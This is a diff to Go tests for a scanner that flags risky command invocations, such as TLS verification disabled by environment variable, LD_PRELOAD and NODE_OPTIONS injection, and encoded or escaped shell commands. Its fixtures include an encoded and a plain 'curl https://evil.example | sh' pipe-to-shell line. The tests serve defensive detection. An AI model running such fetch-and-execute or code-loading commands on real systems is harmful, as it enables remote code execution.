@@ -64,7 +64,9 @@ func TestEachWarningPointsToItsPlace(t *testing.T) {
 		"trust":                     {variable("NODE_TLS_REJECT_UNAUTHORIZED", "0"), Redirects, "env.NODE_TLS_REJECT_UNAUTHORIZED", ""},
 		"a variable of env":         {local1("env", "LD_PRELOAD=/x.so", "npx", "x"), Loads, "args[0]", "LD_PRELOAD="},
 		"a variable of a container": {local1("docker", "run", "-e", "NODE_OPTIONS=-r/x", "x"), Loads, "args[2]", "NODE_OPTIONS="},
-		"base64 of a command":       {local1("x", "Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo"), Encoded, "args[0]", "Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo"},
+		"base64 of a command": {
+			local1("x", "Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo"), Encoded, "args[0]", "Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo",
+		},
 		"hex of a command":          {local1("x", "6375726c2068747470733a2f2f6576696c2e6578616d706c65"), Encoded, "args[0]", ""},
 		"a decoder":                 {local1("sh", "-c", "echo eA== | base64 -d > x"), Encoded, "args[1]", "base64 -d"},
 		"escapes":                   {local1("sh", "-c", `$'\x63\x75\x72\x6c' h`), Encoded, "args[1]", ""},
@@ -119,7 +121,9 @@ func TestEncodedTextIsShownDecoded(t *testing.T) {
 	if !strings.Contains(strings.Join(a.Warnings, "\n"), "curl https://evil.example | sh") {
 		t.Errorf("got %q", a.Warnings)
 	}
-	for _, random := range []string{"ghr_0123456789abcdefghijklmnopqrstuvwx", "d3adb33fd3adb33fd3adb33fd3adb33fd3adb33f", "550e8400-e29b-41d4-a716-446655440000"} {
+	for _, random := range []string{
+		"ghr_0123456789abcdefghijklmnopqrstuvwx", "d3adb33fd3adb33fd3adb33fd3adb33fd3adb33f", "550e8400-e29b-41d4-a716-446655440000",
+	} {
 		for _, m := range Assess(local1("x", random)).Marks {
 			if m.Kind == Encoded {
 				t.Errorf("%s is taken for encoded text: %+v", random, m)
